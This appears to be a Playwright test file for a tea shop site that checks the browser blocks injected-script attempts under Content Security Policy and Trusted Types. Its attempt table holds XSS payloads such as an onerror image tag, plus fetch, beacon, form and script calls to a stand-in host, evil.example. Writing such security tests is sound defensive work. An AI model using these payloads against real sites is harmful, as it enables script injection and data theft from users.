import { expect, test } from './journey.ts';
import { visit } from './steps.ts';

/** Attempts of an injected script; the browser blocks each with an exception or a violation event. */
const ATTEMPTS: Readonly<Record<string, () => void>> = {
  'markup from text': () => {
    document.body.innerHTML = '<img src=x onerror=harm()>';
  },
  'markup beside an element': () => document.body.insertAdjacentHTML('beforeend', '<b>x</b>'),
  'a page from text': () => document.write('<p>x</p>'),
  'a frame from text': () => {
    document.createElement('iframe').srcdoc = '<script>harm()</script>';
  },
  'a script from text': () => {
    const script = document.createElement('script');
    script.append('harm()');
    document.body.append(script);
  },
  'a script of another site': () => {
    document.body.append(
      Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' }),
    );
  },
  'another worker': () => void new Worker('/google-done.js'),
  'code from text': () => void Reflect.construct(Function, ['harm()']),
  'an event handler from text': () => document.body.setAttribute('onclick', 'harm()'),
  'another Trusted Types policy': () =>
    void window.trustedTypes?.createPolicy('mine', { createHTML: (t) => t, createScriptURL: (t) => t }),
  'a second policy under the shop’s name': () =>
    void window.trustedTypes?.createPolicy('default', { createHTML: (t) => t, createScriptURL: (t) => t }),
  'a style from text': () => {
    const style = document.createElement('style');
    style.append('body { background: url(https://evil.example/x) }');
    document.head.append(style);
  },
  'a style in an attribute': () => document.body.setAttribute('style', 'position: fixed'),
  'a request to another site': () => void fetch('https://evil.example/').catch(() => undefined),
  'a beacon to another site': () => void navigator.sendBeacon('https://evil.example/', 'x'),
  'a picture of another site': () => {
    new Image().src = 'https://evil.example/x.png';
  },
  'a frame of another site': () => {
    document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' }));
  },
  'another base': () => {
    document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' }));
  },
  'a form to another site': () => {
    const form = Object.assign(document.createElement('form'), {
      action: 'https://evil.example/',
      method: 'post',
    });
    document.body.append(form);
    form.submit();
  },
};

test('blocks everything that an injected script tries, and records each violation', async ({
  page,
  faultRecorder,
}) => {
  await visit(page, '/tea/picked-tea/Marrakech%20Mint');
  const faultCount = () => faultRecorder.unexpectedFaults().length;
  expect(faultRecorder.unexpectedFaults()).toEqual([]);
  for (const [name, attempt] of Object.entries(ATTEMPTS)) {
    const before = faultCount();
    await page.evaluate(attempt).catch(() => undefined);
    await expect.poll(faultCount, { message: name }).toBeGreaterThan(before);
  }
  const violations = faultRecorder.unexpectedFaults().filter((fault) => fault.includes('policy violation'));
  expect(violations.length).toBeGreaterThan(Object.keys(ATTEMPTS).length / 2);
  expect(new URL(page.url()).pathname).toContain('/tea/');
  faultRecorder.allow(/./);
});

test('a shopper moves through the whole shop while Trusted Types are enforced', async ({ page }) => {
  await visit(page, '/');
  expect(await page.evaluate(() => window.trustedTypes !== undefined)).toBe(true);
  await page.getByRole('navigation').getByRole('link', { name: 'Tea', exact: true }).first().click();
  await page.getByRole('article').first().getByRole('link').click();
  await expect(page.getByRole('heading', { name: 'Taste' })).toBeVisible();
  await expect(page.locator('script[type="application/ld+json"]').first()).toBeAttached();
});
